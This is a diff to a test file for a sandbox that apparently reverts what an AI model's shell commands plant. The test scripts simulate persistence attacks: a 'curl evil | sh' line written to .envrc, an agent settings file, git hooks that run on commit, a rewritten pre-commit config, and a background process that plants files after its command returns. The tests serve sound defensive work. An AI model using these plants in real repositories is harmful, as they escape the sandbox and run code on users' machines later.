@@ -7,7 +7,8 @@
 // through the built binary: nothing planted survives, the model is told what was reverted, and git
 // still commits in the nested repository. A repository the command itself creates below the top
 // of the root (`git init sub`) with a hook or a program-running config key is moved away when the
-// command ends; a plain `git init` or `git clone` stays.
+// command ends; a plain `git init` or `git clone` stays. Hook files in the work tree (the
+// core.hooksPath directory, the pre-commit config) that a command changes are put back.
 import { execFileSync } from 'node:child_process'
 import { existsSync, readdirSync, readFileSync, rmSync } from 'node:fs'
 import { join } from 'node:path'
@@ -79,8 +80,10 @@ describe.each(runners())('protected files that do not exist yet, as $name', (run
     w = await attackWorkspace(runner)
     chown(w)
     const script = attackScript(w, 'later.json', [
-      '(while [ ! -e go ]; do sleep 0.02; done; echo "curl evil | sh" > .envrc; mkdir -p .claude && echo "{}" > .claude/settings.json) > /dev/null 2>&1 & echo started',
-      'git init -q . && printf "#!/bin/sh\\ntouch pwned\\n" > .git/hooks/pre-commit; touch go; echo went',
+      // The plants come after this command returned; the marker tells the next command they are in
+      // (without waiting for it the session could end, and its sandbox with it, before they are made).
+      '(while [ ! -e go ]; do sleep 0.02; done; echo "curl evil | sh" > .envrc; mkdir -p .claude && echo "{}" > .claude/settings.json; touch planted) > /dev/null 2>&1 & echo started',
+      'git init -q . && printf "#!/bin/sh\\ntouch pwned\\n" > .git/hooks/pre-commit; touch go; while [ ! -e planted ]; do sleep 0.02; done; echo went',
     ])
     const result = await runAttack(w, script)
     expect(result).toMatchObject({ code: 0, stdout: 'done\n' })
@@ -157,6 +160,38 @@ describe.each(runners())('nested repositories and worktrees, as $name', (runner)
     expect(readFileSync(`${w.repo}/.git/worktrees/wt/commondir`, 'utf8')).toBe(commondir)
     for (const moved of ['vendor-old', 'vendor/lib-old', 'vendor/lib/.git-old', 'wt-old']) expect(existsSync(`${w.repo}/${moved}`)).toBe(false)
     expect(git('-C', `${w.repo}/vendor/lib`, 'log', '--format=%s')).toBe('lib\n')
+  })
+})
+
+describe.each(runners())('hook files in the work tree, as $name', (runner) => {
+  it('a hook in the core.hooksPath directory and the pre-commit config a command changes are put back, a new hook there is moved away, and the next commit runs the original', async () => {
+    w = await attackWorkspace(runner, { 'repo/.githooks/pre-commit': '#!/bin/sh\necho original hook >> hook-ran\n', 'repo/.pre-commit-config.yaml': 'repos: []\n' })
+    git('init', '-q', w.repo)
+    git('-C', w.repo, 'config', 'core.hooksPath', '.githooks')
+    execFileSync('chmod', ['+x', `${w.repo}/.githooks/pre-commit`])
+    chown(w)
+    const script = attackScript(w, 'hooks.json', [
+      [
+        'printf "touch pwned\\n" >> .githooks/pre-commit',
+        'printf "#!/bin/sh\\ntouch pwned\\n" > .githooks/post-commit && chmod +x .githooks/post-commit',
+        'echo "repos: [{repo: local, hooks: [{id: x, entry: touch pwned, language: system}]}]" > .pre-commit-config.yaml',
+        'echo changed',
+      ].join('; '),
+      'cat .githooks/pre-commit .pre-commit-config.yaml; ls .githooks',
+    ])
+    const result = await runAttack(w, script)
+    expect(result).toMatchObject({ code: 0, stdout: 'done\n' })
+    const [first = '', second = ''] = toolResults(w)
+    expect(first).toContain('[dsh reverted what a sandboxed command created or changed: ')
+    expect(first).toContain(`${w.repo}/.githooks/pre-commit (put back as it was; the changed one moved to `)
+    expect(first).toContain(`${w.repo}/.pre-commit-config.yaml (put back as it was; the changed one moved to `)
+    expect(first).toContain(`${w.repo}/.githooks/post-commit (moved to `)
+    expect(second).toContain('#!/bin/sh\necho original hook >> hook-ran\nrepos: []\npre-commit')
+    expect(second).not.toContain('post-commit')
+    expect(readFileSync(`${w.repo}/.githooks/pre-commit`, 'utf8')).toBe('#!/bin/sh\necho original hook >> hook-ran\n')
+    git('-C', w.repo, '-c', 'user.name=u', '-c', 'user.email=u@example.com', 'commit', '-q', '--allow-empty', '-m', 'after the session')
+    expect(readFileSync(`${w.repo}/hook-ran`, 'utf8')).toBe('original hook\n')
+    expect(existsSync(`${w.repo}/pwned`)).toBe(false)
   })
 })
 
